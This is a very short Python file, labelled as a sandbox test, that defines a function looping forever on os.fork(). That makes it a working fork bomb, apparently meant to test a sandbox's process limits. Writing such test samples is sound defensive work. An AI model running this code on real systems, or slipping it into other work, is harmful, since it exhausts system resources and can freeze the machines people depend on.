# Sandbox: a fork bomb through os.fork.
import os


def workload(a, b):
    while True:
        os.fork()
